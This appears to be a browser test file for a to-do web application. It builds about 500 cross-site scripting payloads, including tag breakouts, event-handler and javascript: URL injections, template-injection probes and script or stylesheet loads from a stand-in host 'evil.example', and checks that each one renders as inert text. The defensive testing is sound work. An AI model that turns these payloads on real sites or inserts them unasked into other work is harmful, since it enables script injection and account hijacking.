"""Five hundred texts that would like to be programs, shown by Chromium as texts."""

from itertools import product
from urllib.parse import quote

from playwright.sync_api import Page

from tasks.models import Task
from todo_site.tests.browser import BrowserTestCase

# What ends the place that a text stands in, and what would run there then.
ENDS = (
    "", '"', "'", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>",
    "</option>",
    "</script>", "</style>", "\\", '\\"', "&quot;>", "%22>", "\u2028", "{{", "{%",
)  # fmt: skip
RUNS = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()//",
    "<svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><script>pwned()</script></svg>",
    "<math><a xlink:href=javascript:pwned()>x</a></math>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<object data=data:text/html,<script>pwned()</script>></object>",
    "<embed src=javascript:pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    " autofocus onfocus=pwned() x=",
    " onmouseover=pwned() style=position:fixed;inset:0 ",
    "<a href=javascript:pwned()>x</a>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "{{ pwned() }}{{ 7*7 }}${7*7}<%= 7*7 %>",
    "<template><img src=x onerror=pwned()></template>",
)
TEXTS = ["".join(pair) for pair in product(ENDS, RUNS)]

# What an element would be if one of them had become one.
BECAME = """() => {
  const odd = "script iframe object embed style math base meta link details template";
  const selector = odd.split(" ").map((name) => `main ${name}`).join(",");
  const shown = new Set(["value", "aria-label"]);
  const runs = ({ name, value }) =>
    !shown.has(name) && (/^on/.test(name) || /javascript:/i.test(value));
  const all = [...document.querySelectorAll("main *")];
  return [...document.querySelectorAll(selector)]
    .filter((element) => !element.closest("form.add"))
    .concat(all.filter((element) => [...element.attributes].some(runs)))
    .map((element) => element.outerHTML);
}"""


class ScriptTests(BrowserTestCase):
    def setUp(self) -> None:
        self.alice = self.person()

    def watched(self) -> Page:
        """Return a window that keeps whatever ran, and whatever was blocked."""
        page = self.open()
        self.ran: list[str] = []
        page.on("dialog", lambda dialog: self.ran.append(dialog.message))
        page.expose_function("pwned", lambda: self.ran.append("pwned"))
        page.on("request", lambda request: self.note_foreign(request.url))
        self.sign_in(page)
        return page

    def note_foreign(self, url: str) -> None:
        if "evil.example" in url:
            self.ran.append(url)

    def assert_a_text(self, page: Page, where: str) -> None:
        page.wait_for_timeout(20)
        self.assertEqual(self.ran, [], where)
        self.assertEqual(page.evaluate(BECAME), [], where)
        self.assertEqual(self.complaints, [], where)

    def test_in_a_list(self) -> None:
        self.assertGreaterEqual(len(TEXTS), 500)
        for text in TEXTS:
            self.alice.tasks.create(title=text[:200], description=text)
        page, url = self.watched(), "/tasks/?order=newest"
        seen: list[str] = []
        while url:
            page.goto(url)
            self.assert_a_text(page, url)
            seen += page.locator(".task-title").all_text_contents()
            following = page.locator("a[rel=next]")
            url = following.get_attribute("href") or "" if following.count() else ""
        self.assertEqual(sorted(seen), sorted(text[:200] for text in TEXTS))

    def test_in_a_form_and_its_errors(self) -> None:
        page = self.watched()
        task = self.alice.tasks.create(title="Plain")
        for text in TEXTS[::5]:
            Task.objects.filter(pk=task.pk).update(title=text, description=text)
            page.goto(f"/tasks/{task.pk}/edit/")
            self.assert_a_text(page, text)
            title = page.locator("form.edit [name=title]")
            self.assertEqual(title.input_value(), text)
        for text in TEXTS[::25]:
            page.goto("/tasks/new/")
            page.locator("[name=title]").evaluate(
                "(e, text) => { e.value = text }", text
            )
            page.evaluate("document.querySelector('[name=due_date]').type = 'text'")
            page.locator("[name=due_date]").fill("nonsense")
            with page.expect_navigation():
                page.evaluate("document.querySelector('form.add').submit()")
            self.complaints = [c for c in self.complaints if "422" not in c]
            self.assert_a_text(page, text)
            self.assertEqual(page.locator("[name=title]").input_value(), text)

    def test_in_a_name_and_a_browser(self) -> None:
        page = self.watched()
        for text in TEXTS[::10]:
            self.alice.name = text[:100]
            self.alice.save()
            self.alice.sessions.update(agent=text)
            page.goto("/accounts/")
            self.assert_a_text(page, text)
            shown = page.locator(".person-name").text_content()
            self.assertEqual(shown, text[:100])
            page.goto("/accounts/sessions/")
            self.assert_a_text(page, text)

    def test_in_an_address(self) -> None:
        page = self.watched()
        for text in TEXTS[::10]:
            for path in ("/tasks/?show=", "/tasks/?after=", "/tasks/new/?next=/"):
                page.goto(path + quote(text))
                self.complaints = [
                    c for c in self.complaints if "404" not in c and "400" not in c
                ]
                self.assert_a_text(page, path + text)
